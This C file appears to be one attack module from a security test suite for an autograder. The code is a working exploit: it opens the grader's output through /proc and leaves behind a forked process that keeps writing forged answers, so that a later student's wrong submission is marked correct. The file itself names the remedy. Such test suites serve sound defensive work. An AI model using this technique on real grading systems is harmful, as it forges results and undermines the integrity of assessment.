// SPDX-License-Identifier: MIT
/*
 * Goal:  an accomplice's wrong answer is marked correct, two students later.
 * Means: answers that wait in the pipe. A process that is left behind holds the grader's output,
 *        opened through /proc, and writes forged answers every millisecond, to requests that were
 *        not made yet. The shim drops what it did not ask for; when the accomplice's request comes,
 *        its answer is there before the grader has begun.
 *
 *     attacker --fork--> survivor:  answers 4 5 6 7, 4 5 6 7, 4 5 6 7 ...
 *     shim:              request 2  | request 3 (honest)  | request 4: has its answer
 */
#include "attacks/attack.h"
#include "attacks/result-forging/frames.h"

#include <fcntl.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>

#define TIMES 5000 /* one each millisecond */

/* Holds no pipe of the student's, whose end the grader waits for. */
static _Noreturn void survive(int out, const char *text, size_t n)
{
	const struct timespec tick = { .tv_nsec = 1000000 };

	setsid();
	dup2(out, STDIN_FILENO);
	close_range(STDIN_FILENO + 1, ~0U, 0);
	for (int i = 0; i < TIMES && write(STDIN_FILENO, text, n) > 0; i++)
		nanosleep(&tick, NULL);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	const struct timespec patience = { .tv_nsec = 100000000 }; /* for the survivor to answer */
	char path[64], text[FRAMES_SIZE];
	size_t n = forge_frames(text, 4, 7);
	pid_t child;
	int out;

	submit("0");
	snprintf(path, sizeof(path), "/proc/%d/fd/1", b->worker);
	attempting(b);
	if (b->again) {
		nanosleep(&patience, NULL);
		return CLAIM_DONE;
	}
	out = open(path, O_WRONLY | O_CLOEXEC);
	if (out < 0)
		return denied(path);
	child = fork();
	if (!child)
		survive(out, text, n);
	return child < 0 ? denied("fork") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a later student's wrong submission is marked correct",
	.means = "a process left behind answers requests that are still to come",
	.oracle = "grade:forged",
	.scene = SCENE_BEFORE_VICTIM,
	.grader = GRADER_RPC,
	.id = "FORGE-11",
	.attack_id = "T1565.002, CWE-345, CWE-74",
	.remedy =
		"end every process of a submission before the next; numbers that cannot be guessed",
	.run = run,
};
